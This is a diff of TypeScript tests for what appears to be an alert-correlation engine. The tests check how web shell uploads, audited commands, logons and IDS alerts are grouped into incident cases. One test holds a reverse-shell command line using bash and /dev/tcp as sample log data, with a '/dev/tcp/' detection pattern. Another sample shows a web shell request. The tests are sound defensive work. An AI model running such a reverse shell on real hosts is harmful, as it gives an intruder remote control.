@@ -113,6 +113,130 @@ describe('alerts of different rules', () => {
   })
 })
 
+describe('a web shell', () => {
+  const options = { speaksOfAttack: () => false }
+  const request = (url: string, minutes: number, protocol = 'GET', srcip = '203.0.113.9', rule = '31108') =>
+    alert({
+      minutes,
+      rule: [rule, 3, 'request', ['web', 'accesslog']],
+      data: { url, protocol, srcip, id: '200' },
+    })
+  const newScript = (path: string, minutes: number) =>
+    alert({
+      minutes,
+      rule: ['554', 5, 'File added to the system.', ['syscheck']],
+      syscheck: { path, event: 'added', mode: 'realtime' },
+    })
+  const shell = '/var/www/html/uploads/x.php'
+
+  it('is one case from the upload to the request that uses it, and says why', () => {
+    const { assignments, cases } = engine(options).assign([
+      request('/async-upload.php', 0, 'POST'),
+      newScript(shell, 0.1),
+      request('/uploads/x.php?c=id', 30, 'GET', '198.51.100.7', '31106'),
+    ])
+    expect(cases).toHaveLength(1)
+    expect(assignments[1]?.why).toContain('an upload and a new script within minutes')
+    expect(assignments[2]?.why).toContain('the new script that it asks for')
+  })
+  it('is found also where the log of the request comes after the file', () =>
+    expect(grouped([newScript(shell, 0), request('/upload.php', 0.5, 'POST')], options)).toBe('aa'))
+  it('below IIS', () => {
+    const written = alert({
+      rule: ['92204', 6, 'Script written', ['sysmon']],
+      data: windowsEvent('11', 'Microsoft-Windows-Sysmon/Operational', {
+        targetFilename: 'C:\\inetpub\\wwwroot\\up\\s.aspx',
+      }),
+    })
+    expect(grouped([written, request('/UP/s.aspx', 5)], options)).toBe('aa')
+  })
+  it('is no upload hours before, no other script, and no script of another host or that is refused', () => {
+    expect(grouped([request('/upload.php', 0, 'POST'), newScript(shell, 30)], options)).toBe('ab')
+    expect(grouped([newScript(shell, 0), request('/admin/x.php', 5)], options)).toBe('ab')
+    expect(grouped([newScript('/var/www/html/admin/index.php', 0), request('/index.php', 5)], options)).toBe(
+      'ab',
+    )
+    expect(grouped([request('/search.php', 0, 'POST'), newScript(shell, 0.1)], options)).toBe('ab')
+    const elsewhere = alert({
+      host: 'web-02',
+      rule: ['554', 5, 'r', []],
+      syscheck: { path: shell, event: 'added' },
+    })
+    expect(grouped([elsewhere, request('/uploads/x.php', 5)], options)).toBe('ab')
+  })
+  it('does not pull the visitors of a page together that was changed', () => {
+    const visits = [1, 2, 3].map(each => request(`/page${each}.php`, each, 'GET', `203.0.113.${each}`))
+    expect(grouped(visits, options)).toBe('abc')
+  })
+})
+
+describe('what an attacker cannot glue together', () => {
+  const attack = { speaksOfAttack: () => true }
+  it('guessing from two places at one host', () =>
+    expect(
+      grouped([from('203.0.113.9', 0), from('203.0.113.10', 1, { rule: ['5712', 10, 'r', []] })], attack),
+    ).toBe('ab'))
+  it('an act on the host belongs to what came in, and further acts to it, whoever knocks in between', () => {
+    const act = (minutes: number, rule: string) => alert({ minutes, rule: [rule, 10, 'act', []] })
+    const knock = from('198.51.100.1', 2, { rule: ['31103', 7, 'knock', []] })
+    expect(grouped([from('203.0.113.9', 0), act(1, '100'), knock, act(3, '101')], attack)).toBe('aaba')
+  })
+  it('what one sensor reports of two pairs of hosts', () => {
+    const seen = (src_ip: string, dest_ip: string, signature: string) =>
+      alert({
+        host: 'sensor',
+        rule: ['86601', 3, 'Suricata', ['ids']],
+        data: { src_ip, dest_ip, alert: { signature } },
+      })
+    expect(
+      grouped([seen('10.0.0.1', '203.0.113.1', 'a'), seen('10.0.0.2', '203.0.113.2', 'b')], attack),
+    ).toBe('ab')
+  })
+  it('what the manager fetched from two services', () => {
+    const fetched = (location: string, rule: string) => {
+      const made = alert({ host: 'manager', rule: [rule, 7, 'r', []], location })
+      return { ...made, agent: { ...made.agent, id: '000' } }
+    }
+    expect(grouped([fetched('github', '1'), fetched('Wazuh-AWS', '2')], attack)).toBe('ab')
+  })
+  it('one grave command and the hundred harmless ones around it', () => {
+    const run = (command: string, minutes: number) =>
+      alert({
+        minutes,
+        rule: ['80792', 3, 'Audit: Command', ['audit']],
+        data: { audit: { uid: '33' }, command },
+      })
+    const graveActOf = ({ document }: Alert) =>
+      JSON.stringify(document).includes('/dev/tcp/') ? 'reverse-shell' : ''
+    const stream = [run('ls', 0), run('ls', 1), run('bash -i >& /dev/tcp/203.0.113.9/1', 2), run('ls', 3)]
+    expect(grouped(stream, { graveActOf })).toBe('aaba')
+  })
+  it('audited commands of two accounts', () => {
+    const run = (uid: string, auid: string) =>
+      alert({ rule: ['80792', 3, 'Audit: Command', ['audit']], data: { audit: { uid, auid } } })
+    expect(
+      grouped([run('33', '4294967295'), run('0', '1001'), run('33', '4294967295'), run('1001', '1001')]),
+    ).toBe('abab')
+  })
+  it('the logons of everybody on the host itself, or behind one jump host', () => {
+    const logon = (rule: string, group: string, srcip: string, dstuser: string, minutes: number) =>
+      alert({ minutes, rule: [rule, 5, 'r', ['sshd', group]], data: { srcip, dstuser } })
+    const failed = 'authentication_failed'
+    const entered = 'authentication_success'
+    expect(
+      grouped([logon('1', failed, '127.0.0.1', 'ann', 0), logon('2', entered, '127.0.0.1', 'bob', 1)]),
+    ).toBe('ab')
+    expect(
+      grouped([logon('1', failed, '10.0.0.5', 'ann', 0), logon('2', entered, '10.0.0.5', 'bob', 1)]),
+    ).toBe('ab')
+    expect(
+      grouped([logon('1', failed, '10.0.0.5', 'ann', 0), logon('2', entered, '10.0.0.5', 'ann', 1)]),
+    ).toBe('aa')
+    const guesses = ['a', 'b', 'c'].map((user, index) => logon('1', failed, '10.0.0.5', user, index))
+    expect(grouped([...guesses, logon('2', entered, '10.0.0.5', 'bob', 4)])).toBe('aaaa')
+  })
+})
+
 describe('a hub', () => {
   it('does not pull the estate into one case', () => {
     const scanner = '203.0.113.99'
